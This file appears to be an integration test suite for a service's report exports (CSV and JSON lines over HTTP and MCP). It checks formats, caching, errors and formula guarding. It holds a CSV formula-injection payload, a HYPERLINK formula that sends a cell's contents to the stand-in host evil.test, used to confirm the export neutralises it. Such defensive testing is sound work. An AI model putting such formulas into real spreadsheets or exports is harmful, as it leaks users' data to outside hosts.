import type { Client } from '@modelcontextprotocol/client';
import request from 'supertest';
import { answerArticleQuestions } from '../../dev/article-answers';
import { answerBrandQuestions, BRAND, BRAND_DOMAIN, KEYWORD } from '../../dev/brand-answers';
import { SAMPLE_DNS_ZONE, sampleLog } from '../../dev/crawler-logs';
import { startDnsStandIn, type DnsStandIn } from '../../dev/dns-stand-in';
import { ARTICLE_URL, FIXTURE_HOSTS } from '../../dev/fixture-sites';
import { startRangeFileStandIns, type RangeFileStandIns } from '../../dev/vendor-stand-ins/range-files';
import { startTestGateway, type TestGateway } from '../support/gateway';
import { connectInMemory } from '../support/mcp-client';
import { KINDS } from '../../domain/kinds';
import { csvRecords, readCsvWithPython } from '../support/python-csv';
import { getForEvents, postForEvents } from '../support/sse-client';

/**
 * Issue 32: every kind of report exported through the public API, read back by an independent CSV
 * reader (Python's csv module) and compared with the JSON report, row by row. ChatGPT answers with a
 * hostile text: a leading =, quotes, commas, line breaks and CJK.
 */

let gateway: TestGateway;
let vendors: RangeFileStandIns;
let dns: DnsStandIn;
let mcp: Client;
const ids: Record<'site' | 'brand' | 'article' | 'traffic', string> = { site: '', brand: '', article: '', traffic: '' };

const HOSTILE =
  '=HYPERLINK("https://evil.test/?x="&A1,"Acme") is what "they" say, and more:\nline two, with commas\r\nline three: 日本語の回答、中文の答え。';
const hostileChatGpt = () => gateway.platforms.setBehaviour('chatgpt', { answer: HOSTILE, citations: ['https://evil.test/a,b?"q"'] });

beforeAll(async () => {
  [vendors, dns] = await Promise.all([startRangeFileStandIns(), startDnsStandIn(SAMPLE_DNS_ZONE)]);
  gateway = await startTestGateway(
    { BRAND_QUESTIONS: '10', BRAND_RUNS: '1', ARTICLE_QUESTIONS: '4', DNS_SERVERS: dns.server },
    vendors.fetchOverrides(),
  );
  const app = gateway.app({ rateLimits: { crawlerLogs: 100 } });

  hostileChatGpt();
  const site = await request(app).post('/api/v1/check').send({ url: FIXTURE_HOSTS.healthy }).expect(200);
  ids.site = site.body.snapshotId as string;

  answerBrandQuestions(gateway.platforms);
  hostileChatGpt();
  const brand = await postForEvents(app, '/api/keywords', { keyword: KEYWORD, brand: BRAND, domain: BRAND_DOMAIN });
  ids.brand = brand.events.at(-1)!.reportId as string;

  answerArticleQuestions(gateway.platforms);
  hostileChatGpt();
  const article = await postForEvents(app, '/api/article-check', { url: ARTICLE_URL });
  ids.article = article.events.at(-1)!.reportId as string;

  const accepted = await request(app)
    .post(`/api/v1/crawler-logs?domain=${FIXTURE_HOSTS.healthy}`)
    .set('content-type', 'text/plain')
    .send(sampleLog(2))
    .expect(202);
  const traffic = await getForEvents(app, accepted.body.eventsUrl as string);
  ids.traffic = traffic.events.at(-1)!.reportId as string;

  mcp = await connectInMemory(gateway);
}, 240_000);
afterAll(async () => {
  await mcp?.close();
  await gateway?.close();
  await Promise.all([vendors?.close(), dns?.close()]);
});

/** What a text cell holds once guarded against formulas. */
const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
const cellOf = (value: unknown) =>
  value === null || value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value);

async function exported(id: string) {
  const app = gateway.app();
  const [json, csv, jsonl] = await Promise.all([
    request(app).get(`/api/v1/report/${id}`),
    request(app).get(`/api/v1/report/${id}/answers.csv`).buffer(true),
    request(app).get(`/api/v1/report/${id}/answers.jsonl`).buffer(true),
  ]);
  expect([json.status, csv.status, jsonl.status]).toEqual([200, 200, 200]);
  const csvBody = Buffer.from(csv.text);
  return {
    report: json.body.report as Record<string, unknown> & { answers: Record<string, unknown>[] },
    createdAt: json.body.createdAt as string,
    csv,
    header: readCsvWithPython(csvBody)[0]!,
    rows: csvRecords(csvBody),
    lines: jsonl.text
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Record<string, unknown>),
    jsonl,
  };
}

describe.each(['site', 'brand', 'article', 'traffic'] as const)('the %s report', (kind) => {
  test('CSV: text/csv in UTF-8 as a named file without a byte-order mark; JSON lines with the same keys and rows', async () => {
    const { csv, jsonl, header, rows, lines, createdAt } = await exported(ids[kind]);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="?${kind}-${ids[kind]}\\.csv"?$`));
    expect(jsonl.headers['content-type']).toBe('application/jsonl; charset=utf-8');
    expect(csv.text.startsWith('exportVersion,reportId,kind,createdAt,')).toBe(true);
    expect(rows.length).toBe(lines.length);
    for (const [index, line] of lines.entries()) {
      expect(Object.keys(line)).toEqual(header);
      expect(line).toMatchObject({ exportVersion: KINDS[kind].export.version, reportId: ids[kind], kind, createdAt });
      // Every cell of the CSV is the JSON line's value, written as the documentation says.
      for (const key of header)
        expect([key, rows[index]![key]]).toEqual([key, typeof line[key] === 'string' ? guarded(line[key]) : cellOf(line[key])]);
    }
  });

  test('the report page links its CSV', async () => {
    const page = await request(gateway.app()).get(`/report/${ids[kind]}`).expect(200);
    expect(page.text).toContain(`<a href="/api/v1/report/${ids[kind]}/answers.csv" download>Download CSV</a>`);
  });

  test('MCP export_answers {id} returns the same rows as JSON lines, and as structured content', async () => {
    const { lines } = await exported(ids[kind]);
    const result = await mcp.callTool({ name: 'export_answers', arguments: { id: ids[kind] } });
    expect(result.isError).toBeFalsy();
    const text = (result.content as { type: string; text: string }[])[0]!.text;
    expect(
      text
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual(lines);
    expect(result.structuredContent).toMatchObject({ reportId: ids[kind], kind, exportVersion: KINDS[kind].export.version, rows: lines });
  });
});

test('brand diagnosis: one row per answer, in the report’s order, with the columns of docs/exports.md; the hostile answer is neutralised in CSV only', async () => {
  const { report, header, rows, lines } = await exported(ids.brand);
  expect(header.slice(0, 21)).toEqual([
    'exportVersion',
    'reportId',
    'kind',
    'createdAt',
    'market',
    'platform',
    'model',
    'question',
    'intent',
    'run',
    'status',
    'mentioned',
    'rank',
    'first',
    'sentiment',
    'cited',
    'citations',
    'searchQueries',
    'entities',
    'costUsd',
    'answer',
  ]);
  expect(rows).toHaveLength(report.answers.length);
  const questions = new Map(
    (report.questions as { id: string; text: string; intent: string }[]).map((question) => [question.id, question]),
  );
  for (const [index, answer] of report.answers.entries()) {
    const row = rows[index]!;
    expect(row).toMatchObject({
      market: '',
      platform: answer.platform,
      question: guarded(questions.get(answer.questionId as string)!.text),
      intent: questions.get(answer.questionId as string)!.intent,
      run: String(answer.run),
      status: answer.status,
      mentioned: String(answer.mentioned),
      first: String(answer.firstRecommended),
      cited: String(answer.brandCited),
    });
    expect(row.rank).toBe(answer.rank === null ? '' : String(answer.rank));
    expect(JSON.parse(row.citations!)).toEqual(answer.citations);
    expect(JSON.parse(row.entities!)).toEqual(answer.entities);
  }
  const hostile = report.answers.findIndex((answer) => answer.platform === 'ChatGPT');
  expect(report.answers[hostile]!.answer).toBe(HOSTILE);
  expect(rows[hostile]!.answer).toBe(`'${HOSTILE}`);
  expect(lines[hostile]!.answer).toBe(HOSTILE);
  expect(JSON.parse(rows[hostile]!.citations!)).toEqual([expect.stringContaining('https://evil.test/a,b?')]);
});

test('article check: one row per answer; cited is the article’s URL, with coverage', async () => {
  const { report, rows } = await exported(ids.article);
  expect(rows).toHaveLength(report.answers.length);
  for (const [index, answer] of report.answers.entries()) {
    expect(rows[index]).toMatchObject({
      platform: answer.platform,
      status: answer.status,
      cited: String(answer.citesUrl),
      citesDomain: String(answer.citesDomain),
      coverage: String(answer.coverage),
      intent: '',
      mentioned: '',
    });
  }
  expect(rows.find((row) => row.platform === 'ChatGPT')!.answer).toBe(`'${HOSTILE}`);
});

test('site check: one row per platform', async () => {
  const { report, rows } = await exported(ids.site);
  const memory = report.memory as { platform: string; status: string; answer: string }[];
  expect(rows.map((row) => [row.platform, row.status])).toEqual(memory.map((result) => [result.platform, result.status]));
  expect(rows.find((row) => row.platform === 'ChatGPT')!.answer).toBe(`'${HOSTILE}`);
  expect(new Set(rows.map((row) => row.totalScore))).toEqual(new Set([String(report.totalScore)]));
});

test('traffic check: three rows per crawler (one per verdict), then one per referral', async () => {
  const { report, rows } = await exported(ids.traffic);
  const crawlers = report.crawlers as { token: string; verdicts: Record<string, number> }[];
  const referrals = report.referrals as { assistant: string; visits: number }[];
  expect(crawlers.length).toBeGreaterThan(0);
  expect(referrals.length).toBeGreaterThan(0);
  expect(rows).toHaveLength(crawlers.length * 3 + referrals.length);
  expect(rows.slice(0, crawlers.length * 3).map((row) => [row.section, row.token, row.verdict, Number(row.requests)])).toEqual(
    crawlers.flatMap((crawler) =>
      ['verified', 'forged', 'unverifiable'].map((verdict) => ['crawler', crawler.token, verdict, crawler.verdicts[verdict]]),
    ),
  );
  expect(rows.slice(crawlers.length * 3).map((row) => [row.section, row.assistant, Number(row.visits), row.token])).toEqual(
    referrals.map((referral) => ['referral', referral.assistant, referral.visits, '']),
  );
});

test('cached as the JSON report is: immutable, and 304 for the ETag already held; a byte-order mark only when asked', async () => {
  const app = gateway.app();
  const first = await request(app).get(`/api/v1/report/${ids.brand}/answers.csv`).buffer(true).expect(200);
  expect(first.headers['cache-control']).toContain('immutable');
  const etag = first.headers.etag as string;
  // The table's version is in the ETag: a file cached before the brand table gained columns is not served for it.
  expect(etag).toMatch(new RegExp(`^W/".+\\.csv\\.v${KINDS.brand.export.version}"$`));
  await request(app).get(`/api/v1/report/${ids.brand}/answers.csv`).set('If-None-Match', etag).expect(304);
  const jsonl = await request(app).get(`/api/v1/report/${ids.brand}/answers.jsonl`).buffer(true).expect(200);
  expect(jsonl.headers.etag).not.toBe(etag);

  const marked = await request(app)
    .get(`/api/v1/report/${ids.brand}/answers.csv?bom=1`)
    .buffer(true)
    .parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => done(null, Buffer.concat(chunks)));
    })
    .expect(200);
  const bytes = marked.body as Buffer;
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(marked.headers.etag).not.toBe(etag);
  expect(readCsvWithPython(bytes)).toEqual([
    ['\ufeffexportVersion', ...readCsvWithPython(first.text)[0]!.slice(1)],
    ...readCsvWithPython(first.text).slice(1),
  ]);
  expect(Buffer.from(first.text).subarray(0, 3).toString()).toBe('exp');
  await request(app).get(`/api/v1/report/${ids.brand}/answers.csv?bom=yes`).expect(400);
});

test('unknown and malformed ids get 404, and so do unknown formats; a stored report of a kind without an export gets 400', async () => {
  const app = gateway.app();
  for (const path of [
    '00000000-0000-4000-8000-000000000000/answers.csv',
    '00000000-0000-4000-8000-000000000000/answers.jsonl',
    'nope/answers.csv',
    `${ids.brand}/answers.xlsx`,
    `${ids.brand}/answers`,
  ]) {
    const response = await request(app).get(`/api/v1/report/${path}`);
    expect([path, response.status]).toEqual([path, 404]);
    expect(response.body).toEqual({ error: expect.any(String) });
  }
  // A document of a kind this version does not know, as an older or newer service may have stored.
  const legacy = '00000000-0000-4000-8000-00000000abcd';
  await gateway.temporal.store.save({ snapshotId: legacy, kind: 'legacy' as 'site', createdAt: new Date(), report: {} as never });
  const response = await request(app).get(`/api/v1/report/${legacy}/answers.csv`);
  expect(response.status).toBe(400);
  expect(response.body).toEqual({ error: 'reports of kind legacy have no export' });
  const tool = await mcp.callTool({ name: 'export_answers', arguments: { id: '00000000-0000-4000-8000-000000000000' } });
  expect(tool.isError).toBe(true);
});
